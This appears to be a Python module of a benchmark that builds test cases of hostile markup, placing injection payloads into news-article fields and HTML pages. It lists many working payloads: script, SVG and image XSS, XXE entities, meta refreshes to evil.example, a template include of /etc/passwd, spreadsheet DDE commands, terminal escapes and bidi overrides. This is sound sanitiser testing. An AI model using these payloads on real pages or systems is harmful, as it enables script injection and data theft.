"""Text that a page, a spreadsheet or a terminal could take for an instruction."""

from __future__ import annotations

import json

from parallax.bench.faults.kinds import FLAT, STORY, Kind, holding, one_file

GROUP = "hostile markup"
MARK = "evil.example"
"""The host that every hostile text leads to: a finished page must not hold it in a live place."""
_page = one_file(GROUP, "odd.html")
HOSTILE = {
    "script": f"<script src=//{MARK}/a.js>alert(1)</script>",
    "CDATA": f'<![CDATA[<meta http-equiv="refresh" content="0;url=http://{MARK}/">]]>',
    "a comment": f'<!--><meta http-equiv="refresh" content="0;url=http://{MARK}/">-->',
    "a declaration": f'<!DOCTYPE x [<!ENTITY a SYSTEM "http://{MARK}/">]>',
    "an instruction": f'<?xml-stylesheet href="http://{MARK}/a.css"?>',
    "base": f'<base href="http://{MARK}/">',
    "an image": f"<img src=http://{MARK}/a.png onerror=alert(1)>",
    "svg": f"<svg onload=alert(1)><image href=http://{MARK}/a /></svg>",
    "a frame": f'<iframe src="http://{MARK}/" srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": f"<object data=http://{MARK}/a></object><embed src=http://{MARK}/b>",
    "a form": f'<form action="http://{MARK}/"><input autofocus onfocus=alert(1)></form>',
    "style": f"<style>@import url(http://{MARK}/a.css);*{{display:none}}</style>",
    "a style attribute": f'<p style="background:url(http://{MARK}/a)">text</p>',
    "a link element": f'<link rel=stylesheet href="http://{MARK}/a.css">',
    "a refresh": f'<meta http-equiv=refresh content="0;url=http://{MARK}/">',
    "a template element": f"<template><script src=//{MARK}></script></template>",
    "math": f"<math><mtext></table><img src=http://{MARK}/a></mtext></math>",
    "an end of what is around": f"</script></style></title></textarea><img src=//{MARK}>",
    "an unclosed tag": f'<a href="http://{MARK}/',
    "entities": f"&lt;script src=//{MARK}&gt;alert(1)&lt;/script&gt;",
    "a Markdown link": f"[report](javascript:location='//{MARK}')",
    "a Markdown image": f"![x](http://{MARK}/a.png)",
    "a Markdown definition": f"[Velm]: http://{MARK}/",
    "a bare address": f"<http://{MARK}/> and http://{MARK}/",
    "a Markdown heading": f"# Heading\n> quote\n- list\n```\n{MARK}\n```",
    "a Markdown table": f"| a | b |\n|---|---|\n| ![]( http://{MARK}/ ) | <b> |",
    "emphasis": "**bold** _it_ ~~gone~~ `code` \\*",
    "mathematics": f"$\\href{{http://{MARK}/}}{{x}}$ $$\\frac{{1}}{{2}}$$",
    "a template": "{{ 7 * 7 }} {% include '/etc/passwd' %} {# gone #}",
    "a formula": f'=HYPERLINK("http://{MARK}/","x")',
    "a command of a spreadsheet": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a format of Python": "{0.__class__} %s %(x)s ${HOME}",
    "a terminal escape": "\x1b]0;owned\x07\x1b[2Jtext",
    "a direction": "\u202e\u2066text\u2069",
}
"""Hostile texts, by what they are."""


def record(text: str, name: str) -> dict[str, str]:
    """An article that has a hostile text wherever a text can be."""
    quoted = f"Jonas Weir said on Thursday: “{text}” and left."
    return {
        "id": f"{name} {text}"[:120],
        "title": f"Harbour of Velm closed {text}",
        "outlet": f"Velm Post {text}",
        "author": f"Jonas Weir {text}",
        "url": f"http://velm.example/?{text}",
        "date": "2016-03-13",
        "text": f"{FLAT} {quoted} The mayor accused {text} of the fire.",
    }


def _in_fields(name: str, text: str) -> Kind:
    line = json.dumps(record(text, name))
    return Kind(GROUP, f"{name} in every field", holding({"odd.jsonl": line}), 1, None)


def _in_page(name: str, text: str) -> Kind:
    body = "".join(f"<p>{part} {text}</p>" for part in STORY.split("\n\n"))
    markup = f"<html><head><title>Harbour {text}</title></head><body>{body}</body></html>"
    return _page(f"{name} in a page", markup, None, None)


KINDS: list[Kind] = [
    *(_in_fields(name, text) for name, text in HOSTILE.items()),
    *(_in_page(name, text) for name, text in HOSTILE.items()),
]
